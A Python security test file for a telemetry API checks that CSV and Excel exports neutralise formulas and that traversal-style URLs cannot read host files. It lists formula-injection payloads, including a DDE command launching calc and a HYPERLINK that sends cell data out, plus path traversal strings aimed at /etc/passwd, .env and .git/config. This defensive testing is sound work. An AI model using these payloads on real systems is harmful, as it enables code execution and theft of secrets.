"""What goes out is text to whoever opens it: no formula in a table, no file but ours under any address."""

from __future__ import annotations

import csv
import http.client
import io
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote, urlsplit

import httpx
import pytest
from openpyxl import load_workbook

from api.resources.shared.sheets import TEXT_MAX, XLSX, workbook
from domain.tables import FORMULA
from store.reports import REPORTS
from tests.integration.api.seed import T0, client, minutes, serving
from tests.security.worlds import Tenants

TAILS = ("1+1", 'cmd|"/C calc"!A0', 'HYPERLINK("http://x/?"&A1,"x")', "SUM(1,2)", "2+5+cmd|' /C calc'!A0")
FORMULAS = [head + tail for head, tail in product(FORMULA, TAILS) if "\x00" not in head]  # no text holds NUL
UPWARDS = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "%252e%252e%252f", "....//", "..;/", ".%00./")
TARGETS = ("etc/passwd", "pyproject.toml", "api/app.py")
BELOW = ("/", "/_app/", "/_app/immutable/", "/t/", "/docs/", "/api/v1/", "/api/v1/devices/")
ABSOLUTE = (
    "//etc/passwd", "/%2fetc%2fpasswd", "/file:///etc/passwd", "/C:%5cwindows%5cwin.ini", "/proc/self/environ",
    "/_app/%2fetc/passwd", "/.env", "/.git/config", "/static/../app.py", "/_app/..%c0%af..%c0%afetc/passwd",
)  # fmt: skip
OURS = ("root:x:0", "[project]", "create_app", "FROSTWAY_", "[core]")


@pytest.fixture(scope="module")
def tenants(kept_database: str) -> Iterator[Tenants]:
    found = Tenants(kept_database)
    yield found
    found.close()


@pytest.fixture(scope="module")
def url(tenants: Tenants) -> Iterator[str]:
    with serving(tenants.dsn, request_rate=0) as url:
        yield url


@pytest.fixture
def api(tenants: Tenants, url: str) -> Iterator[httpx.Client]:
    with client(url, tenants.tokens["admin"]) as api:
        yield api


def test_no_cell_of_a_table_is_a_formula(tenants: Tenants, api: httpx.Client) -> None:
    world = tenants.mine
    for n, text in enumerate(FORMULAS):
        world.temperature("reefer-01", text, T0 + minutes(n), 4.0)
        world.registry.put_vehicle(f"f-{n:03d}", text.strip() or "x")
    told = api.get("/api/v1/readings?device=reefer-01&stream=temp").text
    rows = list(csv.DictReader(io.StringIO(told, newline="")))
    assert {row["probe"] for row in rows} >= {f"'{text}" for text in FORMULAS}
    assert len(FORMULAS) >= 50
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(FORMULA) and not _is_number(cell)] == []
    for report in REPORTS:
        answer = api.get(f"/api/v1/reports/{report}", headers={"Accept": "text/csv"})
        assert answer.status_code in (200, 422), answer.text
        told = answer.text if answer.status_code == 200 else ""
        found = [cell for row in csv.reader(io.StringIO(told, newline="")) for cell in row]
        assert [cell for cell in found if cell.startswith(FORMULA) and not _is_number(cell)] == []


def test_a_cell_of_a_workbook_is_what_was_written_and_no_formula(api: httpx.Client) -> None:
    rows = [[text, n, n / 4, None, True] for n, text in enumerate([*FORMULAS, "https://x.org/", "12", "x" * 40_000])]
    book = load_workbook(io.BytesIO(workbook("a report", ["=name", "n", "x", "nothing", "yes"], rows)))
    head, *found = book.active.iter_rows()
    assert (head[0].value, head[0].data_type) == ("=name", "s")
    for row, cells in zip(rows, found, strict=True):
        assert [cell.data_type for cell in cells] == ["s", "n", "n", "n", "b"]
        assert [cell.value for cell in cells] == [_as_read(row[0])[:TEXT_MAX], *row[1:]]
        assert all(cell.hyperlink is None for cell in cells)
    for answer in (
        api.get("/api/v1/reports/load?format=xlsx"),
        api.get("/api/v1/reports/load", headers={"Accept": XLSX}),
    ):
        assert answer.headers["content-type"] == XLSX
        assert answer.headers["content-disposition"] == 'attachment; filename="load.xlsx"'
        assert load_workbook(io.BytesIO(answer.content)).active["A1"].value == "fleet"


def _as_read(text: str) -> str:
    """As XML gives it back: a carriage return is kept as an escape of the format (ECMA-376, 22.9.2.19)."""
    return text.replace("\r", "_x000D_")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_address_leads_to_a_file_of_the_host(tenants: Tenants, url: str) -> None:
    ways = [f"{below}{up * deep}{target}" for below, up, target, deep in product(BELOW, UPWARDS, TARGETS, (1, 8))]
    headers = {"Authorization": f"Bearer {tenants.tokens['admin']}"}
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=30)
    found = []
    for way in (*ways, *ABSOLUTE, *(f"/api/v1/reports/{quote(up, safe='')}" for up in UPWARDS)):
        connection.request("GET", way.replace("\\", "%5c"), headers=headers)
        answer = connection.getresponse()
        text = answer.read().decode(errors="replace")
        if any(word in text for word in OURS) or answer.status >= 500:
            found.append((way, answer.status, text[:80]))
    connection.close()
    assert found == []
    assert len(ways) >= 100
